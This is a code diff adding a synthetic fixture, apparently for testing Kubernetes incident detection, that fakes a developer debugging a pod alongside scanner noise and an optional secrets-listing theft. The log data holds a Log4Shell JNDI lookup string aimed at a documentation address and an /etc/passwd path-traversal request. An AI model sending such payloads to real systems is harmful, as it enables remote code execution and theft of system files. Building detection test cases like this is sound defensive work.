@@ -375,3 +375,50 @@ def agent():
         f"{c.time(start + 300, 0)[:19]}Z - carol rotated the secret root in vault", ""])
     c.start, c.carol, c.token, c.deployer = start, carol, token, deployer
     return c
+
+
+# -- somebody debugs, and nobody attacks ------------------------------------------------------
+def debugging(stolen=False):
+    """A developer opens a shell through the API, installs a tool and starts it; a scanner of
+    the Internet has left its probes in the log. `stolen`: the account of the pod then lists
+    secrets with curl, which no work explains."""
+    c = Case("debugging", "2026-06-02")
+    dev, office, pod = "jana@corp.example", "192.0.2.60", "storefront/web-7c9f6d5b48-x2x9k"
+    container, image, token = "c3" * 32, "registry.example/web", account("storefront", "web")
+    c.files["pod.json"] = json.dumps({
+        "apiVersion": "v1", "kind": "Pod",
+        "metadata": {"name": pod.split("/")[1], "namespace": "storefront", "uid": c.uid("pod"),
+                     "creationTimestamp": f"{c.day}T09:00:00Z", "labels": {"app": "web"}},
+        "spec": {"serviceAccountName": "web", "nodeName": "n1", "containers": [
+            {"name": "app", "image": image + ":2", "env": [
+                {"name": "PASSWORD", "valueFrom": {"secretKeyRef": {"name": "web-db",
+                                                                    "key": "password"}}}]}]},
+        "status": {"containerStatuses": [{"name": "app", "image": image + ":2",
+                                          "containerID": "containerd://" + container}]}})
+    for i in range(20):
+        c.request(60 * i, token, "get", "configmaps storefront/web", agent="web/2.4",
+                  source="10.244.1.7", groups=("system:serviceaccounts",))
+    log = [(i * 60, f"10.244.0.9 GET /?q=tea+{i} 200") for i in range(30)]
+    log.append((200, '203.0.113.77 "GET /?x=${jndi:ldap://203.0.113.77/a} HTTP/1.1" 404'))
+    log.append((201, '203.0.113.77 "GET /../../etc/passwd HTTP/1.1" 400'))
+    c.files[f"pods/storefront_{pod.split('/')[1]}_{c.uid('pod')}/app/0.log"] = "".join(
+        f"{c.time(at, 9)} stdout F {line}\n" for at, line in sorted(log))
+    start = 1000
+    c.request(start - 20, dev, "list", "pods storefront/", source=office)
+    c.request(start, dev, "get", f"pods/exec {pod}", 101, source=office,
+              query="?command=sh&container=app&stdin=true&tty=true")
+    here = dict(image=image, container=container)
+    c.alert(start + 0.8, "Terminal shell in container", pod, "sh", priority="Notice", **here)
+    c.alert(start + 60, "Launch Package Management Process in Container", pod,
+            "apt-get install -y procps", priority="Error", **here)
+    c.alert(start + 80, "Drop and execute new binary in container", pod, "ps aux",
+            priority="Critical", more={"proc.exe_flags": "EXE_WRITABLE|EXE_UPPER_LAYER"}, **here)
+    if stolen:
+        c.request(start + 120, token, "list", "secrets storefront/", 200, agent="curl/8.5.0",
+                  source="10.244.1.7", groups=("system:serviceaccounts",))
+    c.request(start + 300, dev, "patch", "deployments storefront/web", group="apps",
+              source=office)
+    c.files["audit.log"] = lines(c.records())
+    c.files["falco.jsonl"] = lines(c.alerts())
+    c.start, c.dev, c.token = start, dev, token
+    return c
